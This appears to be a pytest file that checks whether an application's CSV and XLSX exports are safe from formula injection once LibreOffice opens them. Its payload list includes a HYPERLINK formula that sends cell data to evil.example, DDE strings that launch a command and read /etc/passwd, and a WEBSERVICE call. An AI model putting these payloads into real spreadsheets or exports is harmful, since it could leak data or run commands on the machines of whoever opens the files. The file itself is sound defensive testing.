"""X04: files opened by LibreOffice, which runs what it takes for a formula. What it makes of them is read again."""

import io
import itertools
import random
import re
import subprocess
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.utils.escape import unescape

from app.exports import formats
from app.exports.columns import Column
from app.exports.formats import Format

BEFORE = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    ";",
    ",",
    "|",
    '"',
    "'",
    "\u00a0",
    "\u200b",
    "\ufeff",
    "\u2028",
    "\x00",
    "\x01",
)
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "−", "==", "+=", "{=")
BODIES = (
    "1+1",
    "SUM(1,2)",
    'HYPERLINK("http://evil.example/?x="&A1,"click")',
    "cmd|' /C calc'!A0",
    'DDE("soffice";"/etc/passwd";"A1")',
    'WEBSERVICE("http://evil.example")',
    "A1}",
    "x\n=1+1",
)
_LETTERS = "".join({*"".join(BEFORE), *"".join(SIGNS), *"ab1(;,\"'_xX}"})
# as a person would open it: a comma, UTF-8, numbers and dates found, formulas evaluated
_CSV = "CSV:44,34,76,1,,0,false,true,false,false,false,0,true"


@dataclass
class Formula:
    """A cell that runs."""

    text: str


@pytest.fixture
def opened(tmp_path: Path) -> Callable[[Format, bytes], list[list[Any]]]:
    """Rows of a file as LibreOffice has them after opening it."""

    def convert(kind: Format, content: bytes) -> list[list[Any]]:
        given = tmp_path / f"given.{kind}"
        given.write_bytes(content)
        command = ["soffice", f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless", "--norestore"]
        read_as = [f"--infilter={_CSV}"] if kind is Format.CSV else []
        into = ["--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", str(tmp_path / "made"), str(given)]
        subprocess.run([*command, *read_as, *into], check=True, capture_output=True, timeout=120)
        sheet = openpyxl.load_workbook(tmp_path / "made" / "given.xlsx").active
        assert sheet
        return [[_cell(cell) for cell in row] for row in sheet.iter_rows()]

    return convert


def _cell(cell: Any) -> Any:
    if cell.data_type == "f":
        return Formula(cell.value)
    return unescape(cell.value) if isinstance(cell.value, str) else cell.value


def _lines(text: str) -> list[str]:
    """Its lines: what stands between two may be another sign than it was."""
    return re.split("[\r\n]+", text)


def hostile() -> list[str]:
    """Every sign before every body, behind all that may hide it; and texts of the same letters by chance."""
    chance = random.Random(4)
    by_chance = ["".join(chance.choices(_LETTERS, k=chance.randint(1, 12))) for _ in range(2_000)]
    return ["".join(parts) for parts in itertools.product(BEFORE, SIGNS, BODIES)] + by_chance


def of(kind: Format, texts: list[str]) -> bytes:
    file = io.BytesIO()
    columns = [Column("=1+1", str), Column("number", float), Column("last", str)]
    formats.write(file, kind, columns, [[[text, -number / 4, "end"] for number, text in enumerate(texts, 1)]])
    return file.getvalue()


def test_x04_libreoffice_runs_what_is_not_disarmed(opened: Callable[[Format, bytes], list[list[Any]]]) -> None:
    assert opened(Format.CSV, b"a,b\r\n=1+1,end\r\n")[1] == [Formula("=1+1"), "end"]


@pytest.mark.parametrize("kind", [Format.CSV, Format.XLSX])
def test_x04_no_cell_of_a_file_is_a_formula_in_libreoffice_and_numbers_stay_numbers(
    opened: Callable[[Format, bytes], list[list[Any]]], kind: Format
) -> None:
    texts = hostile()

    head, *rows = opened(kind, of(kind, texts))

    assert len(rows) == len(texts)
    assert [text for text, row in zip(texts, rows, strict=True) if isinstance(row[0], Formula)] == []
    assert head[0] in ("=1+1", "'=1+1")
    assert [row[1] for row in rows] == [-number / 4 for number in range(1, len(texts) + 1)]
    assert {row[2] for row in rows} == {"end"}
    assert head[1:3] == ["number", "last"]
    if kind is Format.XLSX:  # a CSV has no other way to say that a text is one than to change it
        assert [_lines(row[0]) for row in rows] == [_lines(text) for text in texts]
